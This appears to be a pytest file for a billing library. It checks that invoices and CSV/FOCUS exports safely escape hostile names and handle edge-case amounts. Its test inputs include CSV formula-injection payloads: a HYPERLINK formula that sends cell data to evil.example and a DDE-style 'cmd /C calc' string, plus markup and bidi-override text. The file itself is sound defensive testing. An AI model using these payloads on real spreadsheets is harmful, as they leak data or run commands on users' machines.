"""An auditor's hostile month: names that are markup, formulas or invisible, numbers at
the edges, corrections, zero lines, an empty cycle and thousands of lines.

What docs/invoices.md (Presentation) and docs/exports.md (Rows, FOCUS, CSV) promise:
every user string is escaped in the HTML and printed with its control and format
characters as escapes in the text; the exports pass ids through unchanged (the host
guards its CSV); no line is lost, and the exports add up to the invoices to the cent.
"""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from fractions import Fraction

import pytest

import ratekit as rk
from _html_pages import SAFE_TAGS, parsed

MONTHS = rk.cycles.monthly(tz="UTC")
MARCH = rk.Span("2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z")

#: (a name, how the text and the HTML show it)
HOSTILE = [
    ("<b>x</b>&amp;", "<b>x</b>&amp;"),
    ("\"q'uote", "\"q'uote"),
    ("new\nline", "new\\nline"),
    (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ),
    ("+1", "+1"),
    ("-cmd", "-cmd"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("rtl\u202eevil", "rtl\\u202eevil"),
    ("zw\u200bsp", "zw\\u200bsp"),
    ("\t=tab", "\\t=tab"),
    ("back\\n", "back\\\\n"),
    ("\u05e9\u05dc\u05d5\u05dd", "\u05e9\u05dc\u05d5\u05dd"),  # RTL letters are text, not format
    ("x" * 5000, "x" * 5000),
]
NUMBER = re.compile(r"[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?")


def _guarded(cell: object) -> object:
    """docs/exports.md's guard for a CSV a spreadsheet opens."""
    if not isinstance(cell, str) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return cell
    if NUMBER.fullmatch(cell):
        return cell
    return "'" + cell


def _billed(name: str) -> tuple[rk.Rating, tuple[rk.Invoice, ...]]:
    """`name` as account, resource, meter, entry, unit, fee, credit, plan and attribute.

    2.5 units at 1.10 = 2.75, a fee of 3: 5.75; the credit pays 1.00: 4.75.
    """
    plan = rk.Plan(
        name, "EUR", MONTHS, [rk.PriceEntry(name, name, rk.PerUnit("1.10"))], fees=[rk.Fee(name, 3)]
    )
    row = rk.UsageRow(name, name, name, MARCH, MARCH, "2.5", name, {name: name}, (name,))
    rating = rk.rate([row], plan, span=MARCH)
    credit = rk.Credit(name, name, 1, "EUR", start=MARCH.start)
    return rating, rk.bill(rating, by_resource=True, credits=[credit])


@pytest.mark.parametrize(("name", "shown"), HOSTILE, ids=range(len(HOSTILE)))
def test_the_text_invoice_shows_a_hostile_name_escaped_and_loses_no_line(
    name: str, shown: str
) -> None:
    (invoice,) = _billed(name)[1]
    (plain,) = _billed("plain")[1]
    text = str(invoice)
    assert len(text.splitlines()) == len(str(plain).splitlines())
    assert f"Invoice {shown}, " in text
    assert f"credit · {shown}" in text
    assert (invoice.subtotal, invoice.total) == (Decimal("5.75"), Decimal("4.75"))
    for character in "\u202e\u200b\t\r":
        assert character not in text


@pytest.mark.parametrize(("name", "shown"), HOSTILE, ids=range(len(HOSTILE)))
def test_the_html_invoice_escapes_a_hostile_name_and_loses_no_row(name: str, shown: str) -> None:
    rating, (invoice,) = _billed(name)
    page = parsed(invoice._repr_html_())
    assert page.tags <= SAFE_TAGS
    assert len(page.rows) == len(parsed(_billed("plain")[1][0]._repr_html_()).rows)
    cells = [cell for _, row in page.rows for cell in row]
    assert f"fee · {shown}" in cells
    assert f"credit · {shown}" in cells
    assert not any(character in "".join(page.text) for character in "\u202e\u200b")
    assert parsed(rating._repr_html_()).tags <= SAFE_TAGS


@pytest.mark.parametrize(("name", "shown"), HOSTILE, ids=range(len(HOSTILE)))
def test_focus_rows_pass_a_hostile_name_through_and_add_up(name: str, shown: str) -> None:
    del shown
    _, invoices = _billed(name)
    rows = rk.focus_rows(invoices, provider="Example SaaS")
    assert [
        (r["ChargeCategory"], r["BillingAccountId"], r["ResourceId"], r["BilledCost"]) for r in rows
    ] == [
        ("Usage", name, name, "2.75"),
        ("Purchase", name, None, "3.00"),
        ("Credit", name, None, "-1.00"),
    ]
    assert json.loads(rows[0]["Tags"]) == {name: name}
    assert rows[0]["x_RecordIds"] == [name]
    # the UTF-8 JSON a host stores reads back the same
    assert json.loads(json.dumps(rows, ensure_ascii=False).encode("utf-8")) == rows
    guarded = [_guarded(r["BillingAccountId"]) for r in rows]
    if name.startswith(("=", "+", "-", "@", "\t")) and not NUMBER.fullmatch(name):
        assert guarded == ["'" + name] * 3
    else:
        assert guarded == [name] * 3
    assert [_guarded(r["BilledCost"]) for r in rows] == ["2.75", "3.00", "-1.00"]


@pytest.mark.parametrize(("name", "shown"), HOSTILE, ids=range(len(HOSTILE)))
def test_rows_and_csv_of_frames_round_trip_a_hostile_name(name: str, shown: str) -> None:
    del shown
    rating, invoices = _billed(name)
    for invoice in invoices:
        back = rk.from_row(rk.Invoice, json.loads(json.dumps(rk.to_row(invoice))))
        assert back == invoice
        assert str(back) == str(invoice)
    charges = list(csv.DictReader(io.StringIO(rk.charges_frame(rating).to_csv(index=False))))
    # 2.5 x 1.10 is the exact Decimal 2.750; an empty cell is the fee's resource
    assert [(row["account"], row["resource"], Fraction(row["amount"])) for row in charges] == [
        (name, name, Fraction("2.75")),
        (name, "", Fraction(3)),
    ]
    lines = list(csv.DictReader(io.StringIO(rk.invoice_lines_frame(invoices).to_csv(index=False))))
    assert sum(Fraction(row["amount"]) for row in lines) == Fraction("5.75")
    assert {row["account"] for row in lines} == {name}


def test_the_same_hostile_rating_twice_gives_byte_identical_exports() -> None:
    def exports() -> str:
        rating, invoices = _billed(HOSTILE[3][0] + HOSTILE[7][0] + HOSTILE[2][0])
        return "\x00".join(
            [
                json.dumps(rk.focus_rows(invoices, provider="X")),
                json.dumps([rk.to_row(invoice) for invoice in invoices]),
                "".join(map(str, invoices)),
                invoices[0]._repr_html_(),
                rk.charges_frame(rating).to_csv(),
            ]
        )

    assert exports() == exports()


def _one(quantity: str, price: str, quantum: str | None = None) -> tuple[rk.Rating, rk.Invoice]:
    entries = [rk.PriceEntry("e", "m", rk.PerUnit(price))]
    if quantum is None:
        plan = rk.Plan("p", "EUR", MONTHS, entries)
    else:
        plan = rk.Plan("p", "EUR", MONTHS, entries, quantum=quantum)
    row = rk.UsageRow("a", "m", "r", MARCH, MARCH, quantity, "GB", {}, ("s1",))
    rating = rk.rate([row], plan, span=MARCH)
    (invoice,) = rk.bill(rating)
    return rating, invoice


def test_a_huge_quantity_is_billed_and_exported_exactly() -> None:
    # 29 nines x 0.01 = 999999999999999999999999999.99 exactly
    rating, invoice = _one("99999999999999999999999999999", "0.01")
    assert invoice.total == Decimal("999999999999999999999999999.99")
    (row,) = rk.focus_rows([invoice], provider="X")
    assert row["BilledCost"] == "999999999999999999999999999.99"
    assert rk.focus_rows(rating, provider="X")[0]["ListCost"] == "999999999999999999999999999.99"


def test_a_tiny_quantity_is_kept_exactly_and_rounds_to_zero_on_the_cent() -> None:
    # 1E-30 GB x 1 = 1E-30: 0.00 on the cent, the exact amount kept and exported plainly
    rating, invoice = _one("1E-30", "1")
    assert (invoice.total, invoice.precise_total) == (Decimal("0.00"), Decimal("1E-30"))
    assert (
        rk.focus_rows(rating, provider="X")[0]["BilledCost"] == "0.000000000000000000000000000001"
    )
    assert rk.focus_rows([invoice], provider="X")[0]["BilledCost"] == "0.00"
    # on a quantum of 1E-30 it is billed whole
    _, fine = _one("1E-30", "1", quantum="1E-30")
    assert fine.total == Decimal("1E-30")


def test_an_amount_beyond_the_exact_range_is_refused_naming_the_entry_and_the_range() -> None:
    # 1E+29 x 1E+29 = 1E+58, above the amounts carried exactly (below 1E+30)
    with pytest.raises(rk.BadPriceError) as error:
        _one("1E+29", "1E+29")
    message = str(error.value)
    assert "price entry 'e' of plan 'p' prices 1E+29 GB of meter 'm' for account 'a'" in message
    assert "magnitude from 1E-100 up to but excluding 1E+30" in message


def test_a_negative_zero_quantity_exports_no_signed_zero() -> None:
    rating, invoice = _one("-0", "1")
    assert invoice.total == Decimal("0.00")
    assert str(invoice.total) == "0.00"
    assert rk.focus_rows([invoice], provider="X")[0]["BilledCost"] == "0.00"
    assert rk.focus_rows(rating, provider="X")[0]["BilledCost"] == "0"


def test_a_negative_correction_lowers_the_invoice_and_no_credit_pays_it() -> None:
    # -3 + 1 = -2 units at 1: a subtotal of -2.00; the credit pays nothing and has no
    # FOCUS row; the detail per resource is -3.00 and 1.00.
    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit(1))])
    rows = [
        rk.UsageRow("a", "m", "r1", MARCH, MARCH, -3, "GB", {}, ("s1",)),
        rk.UsageRow("a", "m", "r2", MARCH, MARCH, 1, "GB", {}, ("s2",)),
    ]
    rating = rk.rate(rows, plan, span=MARCH)
    credit = rk.Credit("c", "a", 5, "EUR", start=MARCH.start)
    (invoice,) = rk.bill(rating, credits=[credit], by_resource=True)
    assert [line.amount for line in invoice.lines] == [Decimal("-3.00"), Decimal("1.00")]
    assert (invoice.subtotal, invoice.total) == (Decimal("-2.00"), Decimal("-2.00"))
    assert [(c.applied, c.left) for c in invoice.credits] == [(Decimal("0.00"), Decimal("5.00"))]
    rows_out = rk.focus_rows([invoice], provider="X")
    assert [(r["ChargeCategory"], r["BilledCost"]) for r in rows_out] == [
        ("Usage", "-3.00"),
        ("Usage", "1.00"),
    ]


def test_charges_that_cancel_split_their_zero_line_without_dividing_by_zero() -> None:
    # 5.003 - 5.003 = 0: the line is 0.00; FOCUS still gives each charge its part
    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit(1))])
    rows = [
        rk.UsageRow("a", "m", "r1", MARCH, MARCH, "5.003", "GB", {}, ("s1",)),
        rk.UsageRow("a", "m", "r2", MARCH, MARCH, "-5.003", "GB", {}, ("s2",)),
    ]
    (invoice,) = rk.bill(rk.rate(rows, plan, span=MARCH))
    assert invoice.total == Decimal("0.00")
    billed = [r["BilledCost"] for r in rk.focus_rows([invoice], provider="X")]
    assert billed == ["5.00", "-5.00"]


def test_an_empty_cycle_exports_nothing_and_keeps_the_frames_columns() -> None:
    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit(1))])
    rating = rk.rate([], plan, span=MARCH)
    assert rk.bill(rating) == ()
    assert rk.focus_rows(rating, provider="X") == []
    assert rk.focus_rows(rk.bill(rating), provider="X") == []
    frame = rk.invoice_lines_frame(rk.bill(rating))
    assert len(frame) == 0
    assert list(frame.columns)[:4] == ["account", "cycle_start", "cycle_end", "currency"]
    assert frame["amount"].sum() == 0


def test_an_assigned_account_with_an_empty_cycle_pays_its_fee_and_commitment() -> None:
    # 10 + (20 - 0) = 30.00
    plan = rk.Plan(
        "p",
        "EUR",
        MONTHS,
        [rk.PriceEntry("e", "m", rk.PerUnit(1))],
        fees=[rk.Fee("f", 10)],
        minimums=[rk.Minimum(20)],
    )
    (invoice,) = rk.bill(rk.rate([], [rk.Assignment("quiet", plan)], span=MARCH))
    rows = rk.focus_rows([invoice], provider="X")
    assert [(r["ChargeCategory"], r["BilledCost"]) for r in rows] == [
        ("Purchase", "10.00"),
        ("Adjustment", "20.00"),
    ]
    assert invoice.total == Decimal("30.00")


@pytest.mark.heavy  # seconds under coverage: run with the properties
def test_five_thousand_resources_lose_no_line_in_any_view() -> None:
    # quantities (i mod 7) + 0.5 for i < 5000: 714 weeks of 0..6 (14994) + 0 + 1, plus
    # 2500 halves = 17495 GB at 0.0037 = 64.7315, billed 64.73 (half-even)
    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit("0.0037"))])
    rows = [
        rk.UsageRow(
            "a",
            "m",
            f"r{i:05d}",
            MARCH,
            MARCH,
            Decimal(i % 7) + Decimal("0.5"),
            "GB",
            {},
            (f"s{i}",),
        )
        for i in range(5000)
    ]
    rating = rk.rate(rows, plan, span=MARCH)
    (invoice,) = rk.bill(rating, by_resource=True)
    assert (len(invoice.lines), invoice.total) == (5000, Decimal("64.73"))
    assert sum(line.amount for line in invoice.lines) == Decimal("64.73")
    assert len(str(invoice).splitlines()) == 5000 + 5  # header, blank, heading ... blank, total
    page = parsed(invoice._repr_html_())
    rest = [cells for cls, cells in page.rows if cells and cells[0].startswith("… and")]
    assert [cells[0] for cells in rest] == ["… and 4800 more lines"]
    shown = [Decimal(cells[-1]) for cls, cells in page.rows if cls is None and cells]
    assert sum(shown) + Decimal(rest[0][-1]) == Decimal("64.73")
    focus = rk.focus_rows([invoice], provider="X")
    assert len(focus) == 5000
    assert sum(Fraction(r["BilledCost"]) for r in focus) == Fraction("64.73")
    ids = [i for r in focus for i in r["x_RecordIds"]]
    assert sorted(ids) == sorted(f"s{i}" for i in range(5000))


def test_an_error_about_a_megabyte_id_is_not_a_megabyte() -> None:
    big = "x" * 1_000_000
    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit(1))])
    row = rk.UsageRow(big, "m", "r", MARCH, MARCH, 1, "GB", {}, ())
    with pytest.raises(rk.UnpricedUsageError) as error:
        rk.rate([row], [rk.Assignment("other", plan)], span=MARCH)
    assert len(str(error.value)) < 1000
    assert "has no plan" in str(error.value)
    with pytest.raises(rk.CurrencyMismatchError) as mismatch:
        rk.bill(
            rk.rate([row], plan, span=MARCH),
            credits=[rk.Credit("c", big, 1, "USD", start=MARCH.start)],
        )
    assert len(str(mismatch.value)) < 1000
    assert "grant credits in the currency of the account's plan" in str(mismatch.value)
